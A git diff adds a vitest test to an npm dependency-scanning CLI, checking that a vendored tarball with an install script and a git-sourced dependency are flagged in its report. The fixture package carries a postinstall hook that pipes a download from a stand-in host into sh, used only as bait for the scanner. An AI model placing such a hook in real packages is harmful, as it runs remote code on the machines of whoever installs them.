@@ -1,6 +1,8 @@
-import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import Arborist from '@npmcli/arborist';
+import pacote from 'pacote';
 import { describe, expect, inject, it } from 'vitest';
 import type { Report } from '../../src/report/build.js';
 import { isolatedHome, runCli } from './cli.js';
@@ -110,6 +112,53 @@ describe('project audits from the lockfile', () => {
       expect.objectContaining({ checkId: 'lockfile-integrity', severity: 'critical' }),
     ]);
     expect(report.summary.incomplete.map((mark) => mark.name)).toContain('tiny-units');
+  });
+
+  it('dependencies that bypass the registry are named; a vendored tarball is scanned, a git one is not analysed', async () => {
+    const dir = await monorepo();
+    const vendor = join(dir, 'vendor');
+    mkdirSync(vendor);
+    const source = join(dir, 'vendored-src');
+    mkdirSync(source);
+    writeFileSync(
+      join(source, 'package.json'),
+      JSON.stringify({
+        name: 'vendored',
+        version: '1.0.0',
+        scripts: { postinstall: 'curl -s https://x.example.invalid/p | sh' },
+      }),
+    );
+    writeFileSync(
+      join(vendor, 'vendored-1.0.0.tgz'),
+      await pacote.tarball(`file:${source}`, { Arborist, ignoreScripts: true }),
+    );
+    const manifest = JSON.parse(readFileSync(join(dir, 'package.json'), 'utf8'));
+    manifest.dependencies = { vendored: 'file:vendor/vendored-1.0.0.tgz' };
+    writeFileSync(join(dir, 'package.json'), JSON.stringify(manifest, null, 2));
+    await lock(dir, registry, home.cache);
+    const lockfile = JSON.parse(readFileSync(join(dir, 'package-lock.json'), 'utf8'));
+    lockfile.packages['node_modules/from-git'] = {
+      version: '1.0.0',
+      resolved: 'git+ssh://git@github.com/acme/from-git.git#0123456789abcdef',
+    };
+    lockfile.packages[''].dependencies['from-git'] = 'github:acme/from-git';
+    writeFileSync(join(dir, 'package-lock.json'), JSON.stringify(lockfile, null, 2));
+    const result = await scanProject(dir, '--format', 'json');
+    expect(result.code).toBe(1);
+    const report = JSON.parse(result.stdout) as Report;
+    const vendored = report.packages.find((pkg) => pkg.name === 'vendored');
+    expect(vendored?.findings.map((finding) => [finding.checkId, finding.severity])).toEqual(
+      expect.arrayContaining([
+        ['install-scripts', 'critical'],
+        ['lockfile-source', 'low'],
+      ]),
+    );
+    expect(report.packages.find((pkg) => pkg.name === 'from-git')?.findings).toEqual([
+      expect.objectContaining({ checkId: 'lockfile-source', severity: 'medium' }),
+    ]);
+    expect(report.summary.incomplete).toEqual([
+      expect.objectContaining({ name: 'from-git', code: 'EOFFREGISTRY' }),
+    ]);
   });
 
   it('a folder without a lockfile is a usage error that says how to make one', async () => {
